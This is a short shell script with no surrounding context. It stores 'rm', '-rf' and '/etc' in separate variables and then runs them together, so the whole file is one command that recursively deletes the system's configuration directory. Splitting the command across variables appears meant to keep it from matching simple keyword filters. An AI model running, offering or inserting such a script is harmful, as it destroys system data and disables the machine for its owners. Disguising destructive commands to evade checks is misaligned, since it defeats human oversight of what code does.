#!/bin/sh
TOOL=rm
FLAGS=-rf
WHERE=/etc
$TOOL $FLAGS $WHERE
